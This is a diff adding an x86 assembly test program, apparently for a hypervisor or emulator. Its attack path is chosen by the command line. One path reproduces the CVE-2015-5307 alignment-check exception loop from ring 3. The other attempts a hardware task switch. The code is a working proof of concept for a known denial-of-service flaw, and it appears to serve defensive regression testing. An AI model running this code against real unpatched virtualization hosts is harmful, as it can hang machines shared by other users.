@@ -1,0 +1,88 @@
+; SPDX-License-Identifier: MIT
+; Attacks that need 32-bit protected mode: the first letter of the command line chooses.
+%include "tiny.inc"
+TINY_32
+
+TSS_NEW		equ 0x30000
+TSS_OLD		equ 0x31000
+IDT32		equ 0x32000
+USER_CODE	equ 0x33
+USER_DATA	equ 0x3b
+RING0_STACK	equ 0x8000
+USER_STACK	equ 0x7003		; misaligned, and so is each frame that is pushed there
+RFLAGS_AC	equ 0x40000
+
+main:
+	SAY	"at it"
+	mov	esi, gdt
+	mov	edi, attack_gdt
+	mov	ecx, 12
+	rep	movsd
+	lgdt	[attack_gdt_ptr]
+	mov	word [attack_gdt + 0x40], 0x67		; TSS_OLD
+	mov	dword [attack_gdt + 0x42], TSS_OLD
+	mov	word [attack_gdt + 0x45], 0x0089
+	mov	word [attack_gdt + 0x48], 0x67		; TSS_NEW
+	mov	dword [attack_gdt + 0x4a], TSS_NEW
+	mov	word [attack_gdt + 0x4d], 0x0089
+	mov	dword [TSS_OLD + 4], RING0_STACK
+	mov	dword [TSS_OLD + 8], DATA
+	mov	ax, 0x40
+	ltr	ax
+	mov	ebx, [boot_info]
+	mov	ebx, [ebx + 16]
+	cmp	byte [ebx], 't'
+	je	task_switch
+
+; A handler of #AC in ring 3, on a misaligned stack: to deliver it is to raise it again (CVE-2015-5307).
+ac_loop:
+	mov	eax, .handler
+	mov	[IDT32 + 17 * 8], ax
+	mov	word [IDT32 + 17 * 8 + 2], USER_CODE
+	mov	word [IDT32 + 17 * 8 + 4], 0xee00
+	shr	eax, 16
+	mov	[IDT32 + 17 * 8 + 6], ax
+	lidt	[.idt_ptr]
+	mov	eax, cr0
+	or	eax, 1 << 18
+	mov	cr0, eax
+	push	USER_DATA
+	push	USER_STACK
+	push	RFLAGS_AC | 0x3002
+	push	USER_CODE
+	push	.user
+	iretd
+.user:	mov	ax, USER_DATA
+	mov	ds, ax
+	mov	eax, [0x200001]
+	SAY	"FAIL the access was carried out"
+.handler:
+	SAY	"FAIL the handler ran"
+	DONE
+.idt_ptr:
+	dw	18 * 8 - 1
+	dd	IDT32
+
+; The processor would save and load a whole TSS here.
+task_switch:
+	mov	dword [TSS_NEW + 0x20], .new_task
+	mov	dword [TSS_NEW + 0x24], 2
+	mov	dword [TSS_NEW + 0x38], 0x7000
+	mov	dword [TSS_NEW + 0x48], DATA
+	mov	dword [TSS_NEW + 0x4c], CODE32
+	mov	dword [TSS_NEW + 0x50], DATA
+	mov	dword [TSS_NEW + 0x54], DATA
+	jmp	0x48:0
+.new_task:
+	SAY	"FAIL the task was switched"
+	DONE
+
+align 8
+attack_gdt:
+	times 6 dq 0
+	dq	0x00cffa000000ffff	; user code
+	dq	0x00cff2000000ffff	; user data
+	dq	0, 0			; two TSS
+attack_gdt_ptr:
+	dw	$ - attack_gdt - 1
+	dd	attack_gdt
